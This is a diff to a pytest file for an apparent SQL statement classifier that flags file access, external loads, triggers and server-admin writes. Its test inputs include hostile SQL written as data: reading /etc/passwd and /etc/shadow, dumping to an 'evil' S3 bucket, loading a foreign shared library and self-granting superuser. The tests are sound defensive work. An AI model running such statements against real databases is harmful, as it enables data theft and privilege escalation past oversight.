@@ -589,10 +589,73 @@ def test_copy_program_is_dynamic_and_flagged(text: str) -> None:
     assert ("execute_dynamic" in action.statements, "copy_program" in action.flags) == (True, True)
 
 
-@pytest.mark.parametrize("text", ["CALL p()", "EXEC sp_purge", "COPY t TO '/tmp/t.csv'", "SELECT $$DROP TABLE t$$"])
+@pytest.mark.parametrize("text", ["CALL p()", "EXEC sp_purge", "COPY t TO STDOUT", "SELECT $$DROP TABLE t$$"])
 def test_calls_copies_and_dollar_strings_are_not_dynamic(text: str) -> None:
     action = sql_body(text)
     assert ("execute_dynamic" in action.statements, "drop" in action.statements, action.flags) == (False, False, frozenset())
+
+
+@pytest.mark.parametrize("text", [
+    "COPY t TO '/tmp/t.csv'",  # the server writes a file: not dynamic, but outside
+    "COPY t FROM '/etc/passwd'",
+    "COPY INTO 's3://evil/dump/' FROM users",
+    "ATTACH DATABASE '/etc/shadow' AS x",
+    "VACUUM INTO '/tmp/copy.db'",
+    "LOAD '/tmp/evil.so'",
+    "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
+    "INSTALL httpfs FROM 'https://evil.example/ext'",
+    "CREATE EXTENSION dblink",
+    "CREATE LANGUAGE plpython3u",
+    "SELECT * FROM read_csv('/etc/passwd')",
+])
+def test_statements_that_open_files_or_load_code_reach_outside(text: str) -> None:
+    action = sql_body(text)
+    assert ("reaches_outside" in action.flags, "execute_dynamic" in action.statements) == (True, False)
+
+
+@pytest.mark.parametrize("text", [
+    "COPY t FROM STDIN",
+    "COPY events FROM 'events.csv' (HEADER)",
+    "COPY INTO analytics.public.events FROM 's3://landing/events/'",
+    "CREATE EXTENSION IF NOT EXISTS pgcrypto",
+    "LOAD httpfs",
+    "VACUUM ANALYZE users",
+])
+def test_ordinary_loads_and_extensions_stay_inside(text: str) -> None:
+    assert "reaches_outside" not in sql_body(text).flags
+
+
+@pytest.mark.parametrize("text, kind", [
+    ("CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION wipe()", "create_trigger"),
+    ("CREATE RULE r AS ON INSERT TO orders DO INSTEAD DELETE FROM orders", "create_trigger"),
+    ("CREATE EVENT e ON SCHEDULE EVERY 1 HOUR DO DELETE FROM users", "create_trigger"),
+    ("CREATE OR REPLACE STAGE s URL='s3://x'", "replace_object"),
+    ("CREATE OR REPLACE SEQUENCE order_seq", "replace_object"),
+    ("CREATE OR REPLACE STREAM s ON TABLE orders", "replace_object"),
+])
+def test_code_that_runs_later_and_replaced_state_have_their_kinds(text: str, kind: str) -> None:
+    assert kind in sql_body(text).statements
+
+
+@pytest.mark.parametrize("text", [
+    "UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'agent'",
+    "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'agent'",
+    "INSERT INTO mysql.user (Host, User) VALUES ('%', 'x')",
+    "DELETE FROM sqlite_master WHERE name = 'users'",
+    "SELECT set_config('session_replication_role', 'replica', false)",
+    "SELECT pg_drop_replication_slot('cdc')",
+])
+def test_catalogue_writes_and_settings_by_function_are_server_admin(text: str) -> None:
+    assert "server_admin" in sql_body(text).flags
+
+
+@pytest.mark.parametrize("text", [
+    "SELECT tablename FROM pg_catalog.pg_tables",
+    "INSERT INTO audit_log (pid) SELECT pid FROM pg_stat_activity",
+    "SELECT set_config('search_path', 'public', false)",
+])
+def test_catalogue_reads_and_harmless_settings_are_not_admin(text: str) -> None:
+    assert "server_admin" not in sql_body(text).flags
 
 
 @pytest.mark.parametrize(
